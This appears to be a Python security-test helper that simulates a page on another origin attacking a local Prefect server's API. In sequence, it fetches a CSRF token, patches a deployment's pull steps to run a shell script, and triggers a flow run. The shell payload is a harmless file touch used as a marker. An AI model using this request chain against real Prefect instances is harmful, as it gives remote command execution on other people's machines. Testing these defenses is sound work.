"""What a page of another origin sends to Prefect's API to run a shell step, as a browser lets it."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

ORIGIN = "http://evil.example"
DEPLOYMENT = "quick/lab"


def shell_step(mark: Path) -> list[dict[str, Any]]:
    """Pull steps that leave a file behind where they are executed."""
    return [{"prefect.deployments.steps.run_shell_script": {"script": f"touch {mark}"}}]


@dataclass
class Page:
    """A page of `origin`; `headers` it would have to know, `host` it has made this machine's name.

    `got`: the steps whose answer the page could read, or whose request the server carried out.
    """

    url: str
    origin: str = ORIGIN
    host: str | None = None
    headers: Mapping[str, str] = field(default_factory=dict)
    got: list[str] = field(default_factory=list)
    refused: dict[str, str] = field(default_factory=dict)

    def sends(self, step: str, method: str, path: str, body: Any = None) -> Any:
        """None where the browser or the server refuses."""
        # By another name of the same machine (rebinding) no browser asks for leave.
        bound = self.host is None
        with httpx.Client(base_url=f"{self.url}/api", trust_env=False, timeout=30) as client:
            known = {"origin": self.origin, **self.headers}
            known |= {"host": self.host} if self.host else {}
            simple = method == "GET" and not self.headers
            if bound and not simple:
                asked = {
                    "origin": self.origin,
                    "access-control-request-method": method,
                    "access-control-request-headers": "content-type,prefect-csrf-token",
                }
                leave = client.options(path, headers=asked)
                if not self._allowed(leave):
                    self.refused[step] = f"preflight {leave.status_code}: {leave.text[:200]}"
                    return None
            for _ in range(20):
                reply = client.request(method, path, json=body, headers=known)
                # Prefect's word for "the database was locked, nothing is done".
                if reply.status_code != httpx.codes.SERVICE_UNAVAILABLE:
                    break
        if not reply.is_success or (bound and not self._allowed(reply)):
            self.refused[step] = f"{reply.status_code}: {reply.text[:200]}"
            return None
        self.got.append(step)
        return reply.json() if reply.content else {}

    def _allowed(self, reply: httpx.Response) -> bool:
        allow = reply.headers.get("access-control-allow-origin")
        return reply.is_success and allow in ("*", self.origin)

    def attacks(self, mark: Path, deployment: str | None = None) -> list[str]:
        """All steps; what an earlier one did not give is given where the test knows it."""
        token = self.sends("token", "GET", "/csrf-token?client=evil")
        if token is not None:
            said = {"prefect-csrf-token": token["token"], "prefect-csrf-client": "evil"}
            self.headers = {**self.headers, **said}
        found = self.sends("deployment", "GET", f"/deployments/name/{DEPLOYMENT}")
        which = found["id"] if found else deployment
        self.sends("patch", "PATCH", f"/deployments/{which}", {"pull_steps": shell_step(mark)})
        self.sends("run", "POST", f"/deployments/{which}/create_flow_run", run_body(mark))
        return self.got


def run_body(diary: Path) -> dict[str, Any]:
    return {"parameters": {"diary": str(diary) + ".diary"}, "state": {"type": "SCHEDULED"}}
